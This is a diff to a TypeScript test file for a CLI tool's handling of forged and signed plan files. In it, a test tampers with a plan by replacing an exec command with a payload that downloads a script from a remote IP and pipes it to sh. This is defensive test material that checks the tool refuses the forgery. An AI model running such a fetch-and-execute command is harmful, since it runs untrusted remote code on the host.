@@ -66,8 +66,13 @@ describe('cli: forged and signed plans', function () {
     assert.equal(starform(['plan', pkg('checks'), '--state', join(dir, 'new.json'), '--out', plan], dir).code, 0);
     assert.equal(statSync(plan).mode & 0o777, 0o600, 'plan files are created 0600');
     const payload = ['sh', '-c', 'wget -q -O- http://198.51.100.7/x | sh'];
+    // The file shows each configuration once (a change shows its instruction's args); a
+    // forger who adds an `after` with the reviewed arguments over edited ones is refused.
     forge(plan, (raw) => {
-      const ins = (raw['instructions'] as { kind: string; args: { recipe: { command: string[] } } }[]).find((i) => i.kind === 'exec')!;
+      const ins = (raw['instructions'] as { id: string; kind: string; args: { recipe: { command: string[] } } }[]).find((i) => i.kind === 'exec')!;
+      const change = (raw['changes'] as { step_id: string; after?: unknown }[]).find((c) => c.step_id === ins.id)!;
+      assert.equal(change.after, undefined, 'the plan file does not repeat the arguments in the change');
+      change.after = structuredClone(ins.args);
       ins.args.recipe.command = payload;
     });
     const shown = starform(['show', plan], dir);
